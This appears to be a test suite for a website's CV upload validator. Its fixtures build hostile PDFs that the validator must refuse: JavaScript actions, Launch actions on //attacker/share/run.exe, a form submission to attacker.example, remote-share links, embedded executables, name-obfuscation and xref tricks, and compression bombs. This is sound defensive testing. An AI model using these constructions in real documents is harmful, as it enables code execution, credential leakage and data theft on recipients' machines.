import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { CV_MAX_BYTES } from "~/lib/forms/visitor-forms";
import zlib from "node:zlib";
import { PDFDocument as PdfLibDocument } from "@cantoo/pdf-lib";
import PDFDocument from "pdfkit";
import {
  EXECUTABLE,
  HTML_PAGE,
  pdfDocument,
  pdfFromObjects,
  pdfHtmlPolyglot,
  pdfStream,
  pdfWithPackedObjects,
  pdfWithJavaScript,
  pdfWithObjectStream,
  truncated,
} from "../../../tests/support/hostile-uploads";
import { PDF_CHECK_TIME_LIMIT_MS } from "../documents/cv-pdf.server";
import {
  cvContentProblem,
  cvDir,
  detectCvKind,
  safeOriginalName,
  storeCv,
} from "./cv.server";

const pdf = Buffer.from("%PDF-1.7\n...");
const doc = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(64),
  Buffer.from("WordDocument", "utf16le"),
]);
const docx = Buffer.concat([
  Buffer.from("PK\x03\x04", "latin1"),
  Buffer.from("....[Content_Types].xml....word/document.xml...."),
]);
const zip = Buffer.concat([
  Buffer.from("PK\x03\x04", "latin1"),
  Buffer.from("....[Content_Types].xml....xl/workbook.xml"),
]);

describe("CV checks by content", () => {
  it("recognises PDF, Word 97-2003 and Word documents, and nothing else", () => {
    expect(detectCvKind(pdf)?.ext).toBe("pdf");
    expect(detectCvKind(doc)?.ext).toBe("doc");
    expect(detectCvKind(docx)?.ext).toBe("docx");
    expect(detectCvKind(zip)).toBeUndefined();
    expect(detectCvKind(Buffer.from("MZ\x90\x00", "latin1"))).toBeUndefined();
    expect(detectCvKind(Buffer.from("<html>%PDF-"))).toBeUndefined();
    expect(detectCvKind(Buffer.alloc(0))).toBeUndefined();
  });

  it("stores a valid CV under a server-chosen name with the type its bytes say", async () => {
    const result = await storeCv(
      new File([docx], "../../etc/My CV.pdf", { type: "application/pdf" }),
    );
    expect(result.ok).toBe(true);
    if (!result.ok || !result.cv) throw new Error("expected a stored CV");
    expect(result.cv.file).toMatch(/^[0-9a-f]{32}\.docx$/);
    expect(result.cv.name).toBe("My CV.docx");
    expect(result.cv.type).toBe(
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    );
    expect(
      fs.readFileSync(path.join(cvDir(), result.cv.file)).equals(docx),
    ).toBe(true);
  });

  it("refuses a wrong type and a file over 5 MB, and treats an empty input as no CV", async () => {
    expect(await storeCv(new File([Buffer.from("hello")], "cv.pdf"))).toEqual({
      ok: false,
      reason: "wrongType",
    });
    const big = Buffer.concat([pdf, Buffer.alloc(CV_MAX_BYTES)]);
    expect(await storeCv(new File([big], "cv.pdf"))).toEqual({
      ok: false,
      reason: "tooLarge",
    });
    expect(await storeCv(new File([], ""))).toEqual({
      ok: true,
      cv: undefined,
    });
    expect(await storeCv(null)).toEqual({ ok: true, cv: undefined });
  });

  it("keeps display names free of paths and odd characters", () => {
    expect(safeOriginalName("C:\\Users\\me\\cv final.pdf", "pdf")).toBe(
      "cv final.pdf",
    );
    expect(safeOriginalName('x"\r\n<script>.doc', "doc")).toBe("x_script_.doc");
    expect(safeOriginalName("", "pdf")).toBe("cv.pdf");
  });
});

describe("hostile CVs", () => {
  const countCvs = () =>
    fs.existsSync(cvDir()) ? fs.readdirSync(cvDir()).length : 0;

  it("stores a well-formed PDF", async () => {
    const result = await storeCv(
      new File([new Uint8Array(pdfDocument())], "cv.pdf"),
    );
    expect(result.ok && result.cv?.type).toBe("application/pdf");
  });

  it.each([
    ["an executable named .pdf", EXECUTABLE, "wrongType"],
    ["an HTML page named .pdf", HTML_PAGE, "wrongType"],
    ["a truncated PDF", truncated(pdfDocument()), "damaged"],
    ["a PDF/HTML polyglot", pdfHtmlPolyglot(), "activeContent"],
    ["a PDF with a JavaScript action", pdfWithJavaScript(), "activeContent"],
  ] as const)("refuses %s, writing nothing", async (_name, bytes, reason) => {
    const before = countCvs();
    expect(
      await storeCv(
        new File([new Uint8Array(bytes)], "cv.pdf", {
          type: "application/pdf",
        }),
      ),
    ).toEqual({ ok: false, reason });
    expect(countCvs()).toBe(before);
  });

  it("does not read script markers inside (compressed) streams, only the PDF's own objects", () => {
    const kind = { ext: "pdf", type: "application/pdf" } as const;
    const withStream = pdfDocument(
      "5 0 obj\n<< /Length 22 >>\nstream\n<script>/JS</script>\nendstream\nendobj\n",
    );
    expect(cvContentProblem(withStream, kind)).toBeUndefined();
    expect(
      cvContentProblem(
        pdfDocument("6 0 obj\n<< /JSON (x) /JSType 1 >>\nendobj\n"),
        kind,
      ),
    ).toBeUndefined();
  });

  describe("objects packed in object streams and names spelt with #xx", () => {
    const kind = { ext: "pdf", type: "application/pdf" } as const;
    const action = "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>";

    it("reads a deflated object stream, as a reader would, and finds a script action in it", () => {
      expect(cvContentProblem(pdfWithObjectStream(action), kind)).toBe(
        "activeContent",
      );
      expect(
        cvContentProblem(
          pdfWithObjectStream(
            "<< /OpenAction << /S /Launch /F (cmd.exe) >> >>",
          ),
          kind,
        ),
      ).toBe("externalAction");
      // Deflated twice (a filter array), or written as a name with #xx in it.
      expect(cvContentProblem(pdfWithObjectStream(action, 2), kind)).toBe(
        "activeContent",
      );
      expect(
        cvContentProblem(
          pdfWithObjectStream(action, 1, "/Fl#61teDecode"),
          kind,
        ),
      ).toBe("activeContent");
      // Not compressed at all.
      expect(cvContentProblem(pdfWithObjectStream(action, 0), kind)).toBe(
        "activeContent",
      );
    });

    it("finds a script action whose name is spelt with #xx, inside or outside an object stream", () => {
      const spelt = "<< /S /J#61vaScript /J#53 (app.alert(1)) >>";
      expect(
        cvContentProblem(pdfDocument(`4 0 obj\n${spelt}\nendobj\n`), kind),
      ).toBe("activeContent");
      expect(cvContentProblem(pdfWithObjectStream(spelt), kind)).toBe(
        "activeContent",
      );
    });

    it("cannot be fooled about where the stream's dictionary starts", () => {
      const data = zlib.deflateSync(Buffer.from(`4 0 ${action}`));
      const tricky = pdfDocument(
        `5 0 obj\n<< /Type /ObjStm /Note (endobj 6 0 obj) /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString("latin1")}\nendstream\nendobj\n`,
      );
      expect(cvContentProblem(tricky, kind)).toBe("activeContent");
    });

    it("passes a clean PDF 1.5 with its objects packed", () => {
      expect(
        cvContentProblem(
          pdfWithObjectStream(
            "<< /Type /Annot /Subtype /Link /Contents (See /JSON docs) >>",
          ),
          kind,
        ),
      ).toBeUndefined();
      expect(
        cvContentProblem(pdfWithObjectStream("<< /Title (My CV) >>", 2), kind),
      ).toBeUndefined();
    });

    it("refuses as damaged an object stream it cannot read: an unknown filter, broken data, a bomb", () => {
      const asciiHex = pdfDocument(
        "5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 8 >>\nstream\n34203020>\nendstream\nendobj\n",
      );
      expect(cvContentProblem(asciiHex, kind)).toBe("damaged");
      const broken = pdfDocument(
        "5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 8 >>\nstream\nnot zlib\nendstream\nendobj\n",
      );
      expect(cvContentProblem(broken, kind)).toBe("damaged");
      // 1 MB of zeros deflated to about 1 KB, 25 times over: 25 MB inflated, past the 20 MB cap.
      const zeros = zlib
        .deflateSync(Buffer.alloc(1024 * 1024))
        .toString("latin1");
      const bomb = Array.from(
        { length: 25 },
        (_, i) =>
          `${10 + i} 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${zeros}\nendstream\nendobj\n`,
      ).join("");
      expect(cvContentProblem(pdfDocument(bomb), kind)).toBe("damaged");
      // Deflated more times than any writer would: each layer is undone, within the same cap.
      expect(cvContentProblem(pdfWithObjectStream(action, 5), kind)).toBe(
        "activeContent",
      );
    });
  });
});

describe("PDF actions and content that run or open something, wherever they sit", () => {
  const kind = { ext: "pdf", type: "application/pdf" } as const;
  const alert = "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>";

  /** A document: its catalog and page with extra entries, and objects numbered from 4. */
  interface Payload {
    catalog?: string;
    page?: string;
    objects?: (string | Buffer)[];
  }
  const objectsOf = (
    payload: Payload,
    catalogNote = "",
  ): (string | Buffer)[] => [
    `<< /Type /Catalog${catalogNote} /Pages 2 0 R ${payload.catalog ?? ""} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${payload.page ?? ""} >>`,
    ...(payload.objects ?? []),
  ];
  const numbered = (
    objects: (string | Buffer)[],
  ): [number, string | Buffer][] =>
    objects.map((body, index) => [index + 1, body]);

  const placements: [string, (payload: Payload) => Buffer][] = [
    [
      "in a classic PDF",
      (payload) => pdfFromObjects(numbered(objectsOf(payload))),
    ],
    [
      "packed in an object stream with a PNG predictor",
      (payload) => pdfWithPackedObjects(objectsOf(payload)),
    ],
    [
      "after a literal string containing `stream`",
      (payload) => {
        const objects = objectsOf(payload, " /Lang (en stream\n)");
        objects.push(pdfStream("", "BT ET"));
        return pdfFromObjects(numbered(objects));
      },
    ],
    [
      "in an incremental update of a clean PDF",
      (payload) =>
        pdfFromObjects(
          numbered(objectsOf(payload)).filter(([number]) => number !== 2),
          pdfFromObjects(numbered(objectsOf({}))),
        ),
    ],
  ];

  const payloads: [string, Payload, string][] = [
    [
      "a script run on opening",
      { catalog: "/OpenAction 4 0 R", objects: [alert] },
      "activeContent",
    ],
    [
      "a document script in the /JavaScript name tree",
      {
        catalog: "/Names << /JavaScript 4 0 R >>",
        objects: ["<< /Names [(x) 5 0 R] >>", alert],
      },
      "activeContent",
    ],
    [
      "a page's additional action",
      { page: `/AA << /O ${alert} >>` },
      "activeContent",
    ],
    [
      "an XFA form with a <script>",
      {
        catalog: "/AcroForm << /Fields [] /XFA 4 0 R >>",
        objects: [
          pdfStream(
            "/Filter /FlateDecode",
            zlib.deflateSync(
              '<xdp:xdp><template><subform><script contentType="application/x-javascript">app.alert(1)</script></subform></template></xdp:xdp>',
            ),
          ),
        ],
      },
      "activeContent",
    ],
    [
      "a Launch action running a program on a remote share",
      {
        catalog:
          "/OpenAction << /S /Launch /Win << /F (//attacker/share/run.exe) >> >>",
      },
      "externalAction",
    ],
    [
      "a link annotation to a file on a remote share (URI)",
      {
        page: "/Annots [4 0 R]",
        objects: [
          "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (file://attacker/share/cv.docx) >> >>",
        ],
      },
      "externalAction",
    ],
    [
      "an outline item opening a PDF on a remote share (GoToR)",
      {
        catalog: "/Outlines 4 0 R",
        objects: [
          "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
          "<< /Title (References) /Parent 4 0 R /A << /S /GoToR /F (//attacker/share/refs.pdf) /D [0 /Fit] >> >>",
        ],
      },
      "externalAction",
    ],
    [
      "an embedded go-to (GoToE)",
      {
        catalog:
          "/OpenAction << /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>",
      },
      "externalAction",
    ],
    [
      "a form field that submits the form (SubmitForm)",
      {
        catalog: "/AcroForm << /Fields [4 0 R] >>",
        page: "/Annots [4 0 R]",
        objects: [
          "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 100 20] /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>",
        ],
      },
      "externalAction",
    ],
    [
      "an ImportData action",
      {
        catalog:
          "/OpenAction << /S /ImportData /F (//attacker/share/data.fdf) >>",
      },
      "externalAction",
    ],
    [
      "an attached file (EmbeddedFiles)",
      {
        catalog: "/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>",
        objects: [
          "<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
          pdfStream("/Type /EmbeddedFile", "MZ"),
        ],
      },
      "embeddedContent",
    ],
    [
      "a RichMedia annotation",
      {
        page: "/Annots [4 0 R]",
        objects: [
          "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>",
        ],
      },
      "embeddedContent",
    ],
  ];

  const cases = payloads.flatMap(([what, payload, reason]) =>
    placements.map(
      ([where, build]) =>
        [`${what}, ${where}`, build, payload, reason] as const,
    ),
  );
  it.each(cases)("refuses %s", (_name, build, payload, reason) => {
    expect(cvContentProblem(build(payload), kind)).toBe(reason);
  });

  it("reads an object that the cross-reference table finds inside another object's stream data", () => {
    // Object 5's data holds the text of object 4; a reader following the table reads it there.
    const hidden = `4 0 obj\n${alert}\nendobj\n`;
    const base = pdfFromObjects(
      numbered(objectsOf({ catalog: "/OpenAction 4 0 R" })).concat([
        [5, pdfStream("", hidden)],
      ]),
    );
    const text = base.toString("latin1");
    const at = text.indexOf("4 0 obj");
    // Point the table's entry for object 4 there (the table lists objects in order 1, 2, 3, 5).
    const table = text.indexOf("\nxref\n") + 1;
    const patched = `${text.slice(0, table)}xref\n0 1\n0000000000 65535 f \n4 1\n${String(at).padStart(10, "0")} 00000 n \n${text.slice(table + 5 + "0 1\n0000000000 65535 f \n".length)}`;
    expect(cvContentProblem(Buffer.from(patched, "latin1"), kind)).toBe(
      "activeContent",
    );
  });

  it("reads an object whose header a reader's lexer accepts: a comment inside, a sign, obj run on", () => {
    for (const header of [
      "4 0 % the action\nobj",
      "+4 0obj",
      "4\r\n0\r\nobj",
    ]) {
      const hidden = `${header}\n${alert}\nendobj\n`;
      const bytes = pdfFromObjects(
        numbered(objectsOf({ catalog: "/OpenAction 4 0 R" })).concat([
          [5, pdfStream("", hidden)],
        ]),
      );
      expect(cvContentProblem(bytes, kind), header).toBe("activeContent");
    }
  });

  it("checks the names after a header inside another object whose text does not parse", () => {
    // A reader more lenient than the library might still take this for an action.
    const broken =
      "4 0 obj\n<< /S /Launch ] /F (//attacker/share/run.exe) >>\nendobj\n";
    const bytes = pdfFromObjects(
      numbered(objectsOf({ catalog: "/OpenAction 4 0 R" })).concat([
        [5, pdfStream("", broken)],
      ]),
    );
    expect(cvContentProblem(bytes, kind)).toBe("externalAction");
  });

  it("refuses a file of nothing but object headers within its limits", () => {
    const headers = Buffer.from(
      `%PDF-1.7\n${"1 0 obj\n".repeat(320_000)}%%EOF\n`,
      "latin1",
    );
    const started = performance.now();
    expect(cvContentProblem(headers, kind)).toBe("damaged");
    expect(performance.now() - started).toBeLessThan(
      PDF_CHECK_TIME_LIMIT_MS + 1000,
    );
  });

  it("refuses a file that claims to be a PDF but does not parse, has no catalog, or is encrypted", () => {
    const unterminated = Buffer.from(
      "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages [\nendobj\n%%EOF\n",
      "latin1",
    );
    expect(cvContentProblem(unterminated, kind)).toBe("damaged");
    expect(
      cvContentProblem(
        Buffer.from("%PDF-1.7\nnot a pdf at all\n%%EOF\n"),
        kind,
      ),
    ).toBe("damaged");
    const encrypted = Buffer.from(
      pdfDocument()
        .toString("latin1")
        .replace(
          "/Root 1 0 R",
          "/Root 1 0 R /Encrypt << /Filter /Standard /V 2 >>",
        ),
      "latin1",
    );
    expect(cvContentProblem(encrypted, kind)).toBe("encrypted");
  });

  it("refuses a compression bomb in an object stream quickly, inflating at most the cap", () => {
    // A 5 MB upload that inflates to about 5 GB: one deflate block of 1 MB of zeros (about 1 KB,
    // not final) repeated, as a hostile writer would, in one object stream.
    const block = zlib.deflateRawSync(Buffer.alloc(1024 * 1024), {
      finishFlush: zlib.constants.Z_SYNC_FLUSH,
    });
    const copies = Math.floor((5 * 1024 * 1024 - 1024) / block.length);
    const data = Buffer.concat([
      Buffer.from([0x78, 0x9c]),
      ...Array.from({ length: copies }, () => block),
      Buffer.from([0x03, 0x00]),
    ]);
    const bomb = pdfFromObjects(
      numbered(objectsOf({})).concat([
        [
          4,
          pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", data),
        ],
      ]),
    );
    expect(bomb.length).toBeLessThanOrEqual(5 * 1024 * 1024);
    const started = performance.now();
    expect(cvContentProblem(bomb, kind)).toBe("damaged");
    // Inflating all 5 GB would take tens of seconds, if memory allowed it at all.
    expect(performance.now() - started).toBeLessThan(5000);
  });

  describe("clean PDFs stay accepted", () => {
    it("a pdfkit CV with web and e-mail links, an outline and internal links", async () => {
      const doc = new PDFDocument({ compress: true });
      const chunks: Buffer[] = [];
      doc.on("data", (chunk: Buffer) => chunks.push(chunk));
      const done = new Promise((resolve) => doc.on("end", resolve));
      doc.text("Layla Mansour, electrical engineer");
      doc.text("LinkedIn", { link: "https://www.linkedin.com/in/example" });
      doc.text("layla@example.com", { link: "mailto:layla@example.com" });
      doc.outline.addItem("Experience");
      doc.goTo(72, 200, 100, 12, "experience");
      doc.addPage();
      doc.addNamedDestination("experience");
      doc.outline.addItem("Education");
      doc.text("Experience: six years of cable design.");
      doc.end();
      await done;
      expect(cvContentProblem(Buffer.concat(chunks), kind)).toBeUndefined();
    });

    it("a PDF saved with object streams by pdf-lib, with an internal link", async () => {
      const doc = await PdfLibDocument.create();
      const first = doc.addPage();
      first.drawText("Curriculum vitae");
      const second = doc.addPage();
      const link = doc.context.obj({
        Type: "Annot",
        Subtype: "Link",
        Rect: [0, 0, 100, 20],
        A: { S: "GoTo", D: [second.ref, "Fit"] },
      });
      first.node.addAnnot(doc.context.register(link));
      const bytes = Buffer.from(await doc.save({ useObjectStreams: true }));
      expect(bytes.includes("/ObjStm")).toBe(true);
      expect(cvContentProblem(bytes, kind)).toBeUndefined();
    });

    it("packed objects with a PNG predictor, a plain outline, local go-to links and web links", () => {
      const payload: Payload = {
        catalog: "/Outlines 4 0 R /OpenAction [3 0 R /Fit] /Lang (en stream\n)",
        page: "/Annots [6 0 R 7 0 R]",
        objects: [
          "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
          "<< /Title (Experience) /Parent 4 0 R /Dest [3 0 R /XYZ 0 792 0] >>",
          "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
          "<< /Type /Annot /Subtype /Link /Rect [0 30 100 50] /A << /S /URI /URI (https://example.com/portfolio) >> >>",
        ],
      };
      for (const [, build] of placements)
        expect(cvContentProblem(build(payload), kind)).toBeUndefined();
    });
  });
});
